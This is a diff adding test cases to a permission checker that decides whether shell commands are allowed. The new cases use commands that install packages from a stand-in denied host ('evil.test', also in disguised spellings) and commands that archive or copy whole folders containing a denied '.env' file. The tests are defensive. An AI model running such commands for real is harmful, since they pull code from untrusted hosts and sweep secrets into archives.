@@ -126,6 +126,27 @@ describe('one rule governs all hands', () => {
     expect(here.decide(bash('curl "$URL"')).behavior).toBe('ask')
   })
 
+  test.each([
+    'npm install https://evil.test/x.tgz',
+    'pip install git+https://evil.test/x',
+    'mytool --url=https://EVIL.test./x',
+    'echo https://a@evil.test/',
+  ])('a denied host that `%s` names is asked at least', async (line) => {
+    const rules = { allow: everything, deny: ['WebFetch(domain:evil.test)'] }
+    const here = (await permissionWith({ tools, rules })).session(session())
+    expect(here.decide(bash(line)).behavior).not.toBe('allow')
+    expect(here.decide(bash(line.replace(/evil/i, 'good'))).behavior).toBe('allow')
+  })
+
+  test('a denied file that lies in a folder which is read as a whole is asked', async () => {
+    for (const rule of ['Read(.env)', 'Read(./.env)', 'Read(**/.env)']) {
+      const here = (await permissionWith({ rules: { allow: everything, deny: [rule] } })).session(session())
+      expect(here.decide(bash('tar czf x.tgz .')).behavior, rule).toBe('ask')
+      expect(here.decide(bash('cp -r .. x')).behavior, rule).toBe('ask')
+      expect(here.decide(bash('tar czf x.tgz src')).behavior, rule).toBe('allow')
+    }
+  })
+
   test('an allow rule about files lets no command run', async () => {
     const here = (await permissionWith({ tools, rules: { allow: ['Edit', 'Read', 'WebFetch'] } })).session(session())
     for (const line of ['cat a', 'echo x > a', 'curl https://a.test'])
